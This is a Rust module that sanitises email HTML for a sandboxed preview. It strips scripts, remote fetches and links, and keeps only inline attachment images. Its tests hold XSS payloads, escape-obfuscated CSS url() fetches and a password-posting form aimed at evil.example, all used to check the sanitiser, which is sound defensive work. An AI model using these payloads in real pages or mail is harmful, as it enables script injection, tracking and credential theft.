//! The HTML of a mail as somebody else may look at it: nothing in it runs, is fetched, or leads anywhere.
//!
//! This is the second wall. The first is how a browser is told to show it: in a sandboxed frame, under a policy that
//! allows no script and no request.

use std::borrow::Cow;
use std::collections::HashSet;
use std::sync::OnceLock;

use ammonia::{Builder, UrlRelative};
use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use regex::Regex;

use super::reading::File;

/// Octets of pictures that are put into one preview.
const MAX_PICTURES: usize = 4 << 20;
/// A picture that is not there: the smallest GIF there is, transparent.
const NOTHING: &str = "data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7";

/// Attributes that mail is laid out with, on any element.
const LAYOUT: [&str; 20] = [
    "align",
    "bgcolor",
    "border",
    "cellpadding",
    "cellspacing",
    "class",
    "color",
    "colspan",
    "dir",
    "face",
    "height",
    "hidden",
    "id",
    "lang",
    "role",
    "rowspan",
    "size",
    "style",
    "valign",
    "width",
];

/// A page that shows `html`, with the pictures that the mail itself brings. Pictures from elsewhere are left out, and
/// links lead nowhere.
pub fn page(html: &str, files: &[File]) -> String {
    let body = cleaner(Pictures::of(files)).clean(html).to_string();
    let body = without_urls(&body);
    format!(
        "<!doctype html><html><head><meta charset=\"utf-8\"><meta name=\"viewport\" content=\"width=device-width, \
         initial-scale=1\"><title>Mail</title><style>body{{margin:12px;font-family:sans-serif;overflow-wrap:anywhere}}\
         img{{max-width:100%}}</style></head><body>{body}</body></html>"
    )
}

fn cleaner(pictures: Pictures) -> Builder<'static> {
    let mut builder = Builder::default();
    builder
        .add_tags(["style", "font", "center", "u", "main", "section"])
        .rm_clean_content_tags(["style"])
        .add_generic_attributes(LAYOUT)
        .add_tag_attributes("style", ["media"])
        .rm_tag_attributes("a", ["href"])
        .link_rel(None)
        .url_schemes(HashSet::from(["cid", "data", "http", "https"]))
        .url_relative(UrlRelative::Deny)
        .attribute_filter(move |element, attribute, value| match (element, attribute) {
            ("img", "src") => Some(pictures.source(value)),
            (_, "src" | "href" | "cite" | "background") => None,
            _ => Some(Cow::Borrowed(value)),
        });
    builder
}

/// The pictures that a mail brings, by their Content-ID, as URLs that hold them.
struct Pictures(Vec<(String, String)>);

impl Pictures {
    fn of(files: &[File]) -> Pictures {
        let mut room = MAX_PICTURES;
        let mut pictures = Vec::new();
        for file in files.iter().filter(|file| is_picture_type(&file.content_type)) {
            let Some(id) = file.content_id.as_deref().filter(|_| file.content.len() <= room) else {
                continue;
            };
            room -= file.content.len();
            let source = format!("data:{};base64,{}", file.content_type, STANDARD.encode(&file.content));
            pictures.push((id.trim_matches(['<', '>']).to_owned(), source));
        }
        Pictures(pictures)
    }

    /// What is shown for a source: a picture that stands in the HTML or in the mail (RFC 2392), else nothing.
    fn source<'v>(&self, value: &'v str) -> Cow<'v, str> {
        if value.len() <= MAX_PICTURES && is_picture(value) {
            return Cow::Borrowed(value);
        }
        let named = value.strip_prefix("cid:").map(|id| id.trim_matches(['<', '>']));
        let named = named.and_then(|id| self.0.iter().find(|(known, _)| known == id));
        named.map_or(Cow::Borrowed(NOTHING), |(_, source)| Cow::Owned(source.clone()))
    }
}

/// Pictures that hold nothing but pixels: an SVG is a document.
fn is_picture_type(content_type: &str) -> bool {
    ["image/png", "image/jpeg", "image/gif", "image/webp"].contains(&content_type)
}

fn is_picture(value: &str) -> bool {
    let head = value.strip_prefix("data:").and_then(|rest| rest.split_once(','));
    head.is_some_and(|(head, _)| head.split(';').next().is_some_and(is_picture_type))
}

/// Styles that fetch nothing. One that hides what it says behind escapes is left out; and what is taken away must not
/// leave behind what it was taken from.
fn without_urls(html: &str) -> Cow<'_, str> {
    static FETCHES: OnceLock<Regex> = OnceLock::new();
    let fetches = FETCHES.get_or_init(|| {
        Regex::new(r"(?i)@import[^;<]*;?|(url|image|image-set|src)\s*\([^)<]*\)?")
            .expect("the pattern is a constant, and a test compiles it")
    });
    // Only within styles: a text may tell of url(…).
    static STYLES: OnceLock<Regex> = OnceLock::new();
    let styles = STYLES.get_or_init(|| {
        Regex::new(r#"(?is)<style[^>]*>.*?</style>|\sstyle="[^"]*""#)
            .expect("the pattern is a constant, and a test compiles it")
    });
    let cleaned = |found: &regex::Captures<'_>| {
        let mut style = found[0].to_owned();
        if style.contains('\\') {
            return String::new();
        }
        while let Cow::Owned(less) = fetches.replace_all(&style, "") {
            style = less;
        }
        style
    };
    styles.replace_all(html, cleaned)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn of(html: &str) -> String {
        page(html, &[])
    }

    #[test]
    fn nothing_runs_is_fetched_or_leads_anywhere() {
        let hostile = [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<img src=https://tracker.example/pixel.gif>",
            "<a href='javascript:alert(1)'>x</a><a href='https://evil.example/'>y</a>",
            "<svg><script>alert(1)</script></svg><svg onload=alert(1)>",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
            "<style>@import url(https://evil.example/x.css); p{background:url('https://evil.example/b.png')}</style>",
            "<p style=\"background:u\\72l(https://evil.example/c.png)\">x</p>",
            "<p style=\"background:ururl(x)l(https://evil.example/e.png)\">x</p>",
            "<p style=\"background:u\\72rl(https://evil.example/f.png)\">x</p>",
            "<p style='background-image: URL( https://evil.example/d.png )'>x</p>",
            "<iframe src='https://evil.example/'></iframe><object data='https://evil.example/'></object>",
            "<form action='https://evil.example/'><input name=password><button>go</button></form>",
            "<meta http-equiv=refresh content='0;url=https://evil.example/'><base href='https://evil.example/'>",
            "<link rel=stylesheet href=https://evil.example/x.css><video poster=https://evil.example/p.png></video>",
            "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
            "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
            "<table background='https://evil.example/t.png'><tr><td>x</table>",
        ];
        for html in hostile {
            let shown = of(html).to_ascii_lowercase();
            for never in [
                "<script",
                "onerror=",
                "onload=",
                "javascript:",
                "evil.example",
                "tracker.example",
                "<svg",
                "<iframe",
                "<form",
                "http-equiv",
                "<base",
                "@import",
                "svg+xml",
            ] {
                let body = shown.split("<body>").nth(1).unwrap_or_default();
                // A text may say it; an element or attribute may not be it.
                let harmless = body.replace("&lt;", "").contains(never) && body.contains("&lt;");
                assert!(!body.contains(never) || harmless, "{never} of {html} in {body}");
            }
        }
    }

    #[test]
    fn layout_and_the_mail_s_own_pictures_stay() {
        let files = [File {
            filename: None,
            content_type: "image/png".to_owned(),
            content_id: Some("<logo@acme>".to_owned()),
            content: vec![1, 2, 3],
        }];
        let html = "<style>p{color:red}</style><table bgcolor=\"#fff\"><tr><td style=\"padding:4px\"><img \
                    src=\"cid:logo@acme\" width=\"20\"> say url(x)</td></tr></table>";
        let shown = page(html, &files);
        for wanted in
            ["p{color:red}", "bgcolor=\"#fff\"", "padding:4px", "data:image/png;base64,AQID", "say url(x)"]
        {
            assert!(shown.contains(wanted), "{wanted} in {shown}");
        }
    }

    #[test]
    fn what_is_built_to_exhaust_its_reader_does_not() {
        let deep = "<div>".repeat(50_000);
        assert!(of(&deep).len() < 4 << 20);
    }
}
